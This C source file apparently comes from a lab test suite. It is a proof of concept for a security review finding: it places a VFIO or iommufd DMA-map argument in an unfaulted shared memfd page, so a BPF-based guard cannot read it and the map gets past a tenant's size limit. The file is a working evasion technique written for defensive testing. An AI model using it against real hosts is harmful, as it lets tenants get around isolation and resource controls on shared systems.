// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * bad_argument: a DMA map whose argument struct BPF cannot read (security review
 * finding 4a). The struct is written into a shmem file with write() and the ioctl is
 * given its address in a MAP_SHARED mapping of that file that was never touched: the
 * page is in the page cache but not in this process's page tables.
 * bpf_probe_read_user() cannot fault, so it fails; the kernel's copy_from_user() faults
 * the page in and maps. One map of N pages, a size the tenant's limit is expected to
 * refuse if it were read.
 *
 *   bad_argument type1 BDF [--iova A] [--pages N]    VFIO_IOMMU_MAP_DMA on a container
 *   bad_argument iommufd [--iova A] [--pages N]      IOMMU_IOAS_MAP on /dev/iommu
 *
 * Prints one JSON line (lab_attack.h); exit status 0 only if no step failed.
 */
#include <getopt.h>
#include <sys/mman.h>

#include "lab_attack.h"

struct attack {
	const char *mode;
	const char *bdf;
	uint64_t iova;
	unsigned long pages;
	unsigned long maps, unmaps;
	struct report r;
};

/* The map argument, reachable only through a page fault; munmap with LAB_PAGE. */
static void *untouched_argument(struct attack *a, const void *arg, size_t size)
{
	char page[LAB_PAGE] = { 0 };
	void *p = NULL;
	int fd;

	memcpy(page, arg, size);
	fd = memfd_create("ioguard-lab-argument", MFD_CLOEXEC);
	if (fd < 0) {
		report_fail(&a->r, "memfd_create", -errno);
		return NULL;
	}
	if (write(fd, page, sizeof(page)) != (ssize_t)sizeof(page)) {
		report_fail(&a->r, "write_argument", errno ? -errno : -EIO);
		goto out;
	}
	p = mmap(NULL, LAB_PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED) {
		report_fail(&a->r, "mmap_argument", -errno);
		p = NULL;
	}
out:
	close(fd);
	return p;
}

static int run_type1(struct attack *a, void *buf, size_t len)
{
	struct vfio_iommu_type1_dma_map map = {
		.argsz = sizeof(map),
		.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
		.vaddr = (uintptr_t)buf,
		.iova = a->iova,
		.size = len,
	};
	struct lab_type1 t;
	void *arg;
	int err;

	err = lab_type1_open(&t, a->bdf, &a->r);
	if (err)
		return err;
	arg = untouched_argument(a, &map, sizeof(map));
	if (!arg) {
		err = -EIO;
		goto out;
	}
	err = ioctl(t.container, VFIO_IOMMU_MAP_DMA, arg) ? report_fail(&a->r, "map_dma", -errno) : 0;
	munmap(arg, LAB_PAGE);
	if (err)
		goto out;
	a->maps++;
	if (!report_fail(&a->r, "unmap_dma", lab_type1_unmap(t.container, a->iova, len, 0)))
		a->unmaps++;
out:
	lab_type1_close(&t);
	return err;
}

static int run_iommufd(struct attack *a, void *buf, size_t len)
{
	struct iommu_ioas_alloc alloc = { .size = sizeof(alloc) };
	struct iommu_ioas_map map = {
		.size = sizeof(map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.user_va = (uintptr_t)buf,
		.length = len,
		.iova = a->iova,
	};
	int iommufd, err;
	void *arg;

	iommufd = open("/dev/iommu", O_RDWR);
	if (iommufd < 0)
		return report_fail(&a->r, "open_iommufd", -errno);
	if (ioctl(iommufd, IOMMU_IOAS_ALLOC, &alloc)) {
		err = report_fail(&a->r, "ioas_alloc", -errno);
		goto out;
	}
	map.ioas_id = alloc.out_ioas_id;
	arg = untouched_argument(a, &map, sizeof(map));
	if (!arg) {
		err = -EIO;
		goto out;
	}
	err = ioctl(iommufd, IOMMU_IOAS_MAP, arg) ? report_fail(&a->r, "ioas_map", -errno) : 0;
	munmap(arg, LAB_PAGE);
	if (!err)
		a->maps++;
out:
	close(iommufd);
	return err;
}

static void usage(void)
{
	fprintf(stderr, "usage: bad_argument type1 BDF | iommufd  [--iova A] [--pages N]\n");
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "iova", required_argument, NULL, 'i' },
		{ "pages", required_argument, NULL, 'n' },
		{ 0 },
	};
	struct attack a = { .iova = 0x100000, .pages = 32 };
	size_t len;
	int opt, err;
	void *buf;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (opt) {
		case 'i':
			a.iova = strtoull(optarg, NULL, 0);
			break;
		case 'n':
			a.pages = strtoul(optarg, NULL, 0);
			break;
		default:
			usage();
			return 2;
		}
	}
	if (optind >= argc || !a.pages) {
		usage();
		return 2;
	}
	a.mode = argv[optind];
	a.bdf = optind + 1 < argc ? argv[optind + 1] : NULL;
	if (strcmp(a.mode, "iommufd") && (strcmp(a.mode, "type1") || !a.bdf)) {
		usage();
		return 2;
	}
	len = a.pages * LAB_PAGE;
	report_int(&a.r, "iova", (long long)a.iova);
	report_int(&a.r, "bytes", (long long)len);
	buf = lab_buffer(len);
	if (!buf)
		err = report_fail(&a.r, "mmap_buffer", -errno);
	else if (!strcmp(a.mode, "type1"))
		err = run_type1(&a, buf, len);
	else
		err = run_iommufd(&a, buf, len);
	if (buf)
		munmap(buf, len);
	report_int(&a.r, "maps", (long long)a.maps);
	report_int(&a.r, "unmaps", (long long)a.unmaps);
	report_print(&a.r, "bad_argument", a.mode);
	return err ? 1 : 0;
}
